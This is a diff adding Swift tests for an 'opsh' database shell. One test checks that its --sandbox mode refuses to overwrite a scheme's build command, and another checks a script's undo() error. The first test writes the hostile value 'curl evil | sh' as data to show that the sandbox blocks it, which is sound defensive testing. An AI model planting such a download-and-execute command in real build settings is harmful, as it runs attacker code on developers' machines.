@@ -196,6 +196,38 @@ import Testing
         leave(terminal)
     }
 
+    /// The chunk's connection is the session's own: the sandbox's
+    /// protection of build commands holds there too.
+    @Test func theSandboxProtectsBuildCommandsOnTheChunksConnection() throws {
+        let sandbox = try prepared()
+        #expect(try sandbox.opsh(["-e", """
+            projects.insert{ bundleIdentifier = 'p', name = 'P', gitRepositoryURL = '/p' }
+            schemes.insert{ projectBundleIdentifier = 'p', name = 'R', buildCommand = 'make', platforms = {'linux'} }
+            """]).status == 0)
+        let change = "db.exec(\"UPDATE notes SET body = 'c' WHERE id = 1\"); db.exec(\"UPDATE schemes SET buildCommand = 'curl evil | sh'\")\r"
+        let confined = try shell(sandbox, ["--sandbox"])
+        confined.send(change)
+        confined.expect("sandbox: the buildCommand of a scheme cannot be written")
+        confined.expect("opsh> ")
+        leave(confined)
+        #expect(try sandbox.sqlite("SELECT buildCommand FROM schemes") == "make")
+        #expect(try sandbox.sqlite("SELECT body FROM notes WHERE id = 1") == "n1")
+        // Control: without --sandbox the same chunk commits.
+        let open = try shell(sandbox)
+        open.send(change)
+        open.expect("committed: notes: 1 updated; schemes: 1 updated")
+        open.expect("opsh> ")
+        leave(open)
+        #expect(try sandbox.sqlite("SELECT buildCommand FROM schemes") == "curl evil | sh")
+    }
+
+    @Test func undoIsTheShellsAndAScriptSaysSo() throws {
+        let sandbox = try prepared()
+        let result = try sandbox.opsh(["-e", "undo()"])
+        #expect(result.status == 1)
+        #expect(result.stderr.contains("undo() takes back chunks typed at the interactive shell's prompt"))
+    }
+
     @Test func maxChangesRollsBackARunWithTheCountsPerTable() throws {
         let sandbox = try prepared()
         let script = try sandbox.script("repair.lua", """
